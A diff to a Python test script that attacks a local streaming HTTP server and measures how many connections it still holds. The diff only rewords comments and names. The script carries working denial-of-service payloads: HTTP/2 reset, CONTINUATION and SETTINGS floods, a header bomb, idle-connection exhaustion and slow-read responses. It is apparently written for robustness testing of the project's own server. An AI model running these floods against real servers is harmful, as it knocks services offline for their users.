@@ -1,12 +1,13 @@
 #!/usr/bin/env python3
-"""Things that no honest client of HTTP does: http_attack.py WHAT PORT --tls PORT --process ID [--stream NAME]
+"""Attacks an HTTP server: http_attack.py ATTACK PORT --tls PORT --process ID [--stream NAME]
 
   http2     floods over HTTP/2, each on a connection of its own
-  idle      as many connections that ask for nothing as the system allows, and one that asks now and then
-  waiting   thousands of requests for a playlist that is not there yet, reset or closed before it is
-  slow      answers without end, and many at once, that nobody reads, over HTTP/1.1, TLS and HTTP/2
+  idle      as many connections without a request as the system allows, and one client that sends requests among them
+  waiting   thousands of requests for a future playlist, reset or closed before the response
+  slow      endless and pipelined responses that the client does not read, over HTTP/1.1, TLS and HTTP/2
 
-PORT is that of HTTP, the process the server's: its open files tell what it still holds for clients that see nothing. Prints what came of it as JSON.
+PORT is the HTTP port; ID is the server's process, whose number of open files shows how many connections it still holds.
+Prints the outcome as JSON.
 """
 import argparse
 import json
@@ -39,7 +40,7 @@ def connect_tls(port, protocol, receive_buffer=None):
 
 
 def ask(connection, path):
-    """One request on a connection that is kept: its status; 0 when the connection is closed."""
+    """Sends a request on a persistent connection. Returns status and body; status 0 when the connection is closed."""
     try:
         connection.sendall(f"GET {path} HTTP/1.1\r\nHost: a\r\n\r\n".encode())
         text = b""
@@ -85,7 +86,7 @@ class Server:
         return len(os.listdir(f"/proc/{self.process}/fd"))
 
     def seconds_until(self, open_files, limit):
-        """How long it takes until so few files are open; None when it takes longer than the limit."""
+        """Seconds until at most so many files are open; None after the limit."""
         begin = time.time()
         while time.time() - begin < limit:
             if self.open_files() <= open_files:
@@ -102,7 +103,7 @@ def http2(server):
     attacks = {
         "reset": lambda: b"".join(get(i, playlist) + frame(3, 0, i, cancel) for i in range(1, 20001, 2)),
         "reset while waiting": lambda: b"".join(get(i, waiting) + frame(3, 0, i, cancel) for i in range(1, 20001, 2)),
-        "made to reset": lambda: b"".join(get(i, playlist) + frame(8, 0, i, bytes(4)) for i in range(1, 20001, 2)),
+        "provoked reset": lambda: b"".join(get(i, playlist) + frame(8, 0, i, bytes(4)) for i in range(1, 20001, 2)),
         "continuations": lambda: frame(1, 1, 1, headers("/health")) + frame(9, 0, 1, b"\x00\x01a\x01b" * 1000) * 2000,
         "empty continuations": lambda: frame(1, 1, 1, headers("/health")) + frame(9, 0, 1) * 200000,
         "settings": lambda: frame(4, 0, 0, struct.pack(">HI", 4, 65535)) * 50000,
@@ -111,8 +112,8 @@ def http2(server):
         "priorities": lambda: b"".join(frame(2, 0, i, struct.pack(">IB", 0, 1)) for i in range(1, 100001, 2)),
         "header bomb": lambda: frame(1, 5, 1, bomb),
         "streams": lambda: b"".join(get(i, waiting) for i in range(1, 2001, 2)),
-        "a frame too long": lambda: b"\xff\xff\xff\x00\x00\x00\x00\x00\x01" + bytes(100000),
-        "headers that are none": lambda: frame(1, 5, 1, b"\x3f\xff\xff\xff\xff\xff\xff"),
+        "an oversize frame": lambda: b"\xff\xff\xff\x00\x00\x00\x00\x00\x01" + bytes(100000),
+        "an invalid header block": lambda: frame(1, 5, 1, b"\x3f\xff\xff\xff\xff\xff\xff"),
     }
     ended = {}
     for attack, make in attacks.items():
@@ -138,16 +139,16 @@ def http2(server):
 
 def idle(server):
     port, name = server.port, server.name
-    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
-    count = 12000 if most == resource.RLIM_INFINITY else min(12000, most - 100)
-    resource.setrlimit(resource.RLIMIT_NOFILE, (count + 100, most))
+    maximum = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+    count = 12000 if maximum == resource.RLIM_INFINITY else min(12000, maximum - 100)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (count + 100, maximum))
     player, statuses = connect(port), []
     begin, connections = time.time(), []
     for number in range(count):
         if number % 250 == 0:
             statuses.append(ask(player, f"/{name}/playlist.m3u8")[0])
-            # One that is answered was accepted behind all before it: the system's own queue, which drops what it has no room
-            # for, whoever it is from, stays short.
+            # A response means that all earlier connections are accepted, so the listen backlog, which drops connections
+            # when full, stays short.
             statuses.append(ask(connect(port), "/health")[0])
         connections.append(connect(port))
     statuses.append(ask(player, f"/{name}/playlist.m3u8")[0])
@@ -193,13 +194,13 @@ def slow(server):
     port, tls, name, before = server.port, server.tls, server.name, server.open_files()
     _, playlist = ask(connect(port), f"/{name}/playlist.m3u8")
     segment = re.findall(r"^[^#\s]+\.ts$", playlist, re.M)[-1]
-    pictures = f"GET /{name}/mjpeg?fps=30 HTTP/1.1\r\nHost: a\r\n\r\n".encode()
+    motion_jpeg = f"GET /{name}/mjpeg?fps=30 HTTP/1.1\r\nHost: a\r\n\r\n".encode()
     segments = f"GET /{name}/{segment} HTTP/1.1\r\nHost: a\r\n\r\n".encode() * 500
     closed_window = frame(4, 0, 0, struct.pack(">HI", 4, 0))
     streams = b"".join(get(2 * i + 1, f"/{name}/mjpeg" if i % 2 else f"/{name}/{segment}") for i in range(40))
     connections = []
     for make in (lambda: connect(port, 2048), lambda: connect_tls(tls, "http/1.1", 2048)):
-        for request in (pictures, segments):
+        for request in (motion_jpeg, segments):
             for _ in range(10):
                 connections.append(make())
                 connections[-1].sendall(request)
@@ -213,13 +214,13 @@ def slow(server):
 
 def main():
     parser = argparse.ArgumentParser()
-    parser.add_argument("what", choices=["http2", "idle", "waiting", "slow"])
+    parser.add_argument("attack", choices=["http2", "idle", "waiting", "slow"])
     parser.add_argument("port", type=int)
     parser.add_argument("--tls", type=int, required=True)
     parser.add_argument("--process", type=int, required=True)
     parser.add_argument("--stream", default="live")
     options = parser.parse_args()
-    print(json.dumps(globals()[options.what](Server(options))))
+    print(json.dumps(globals()[options.attack](Server(options))))
 
 
 main()
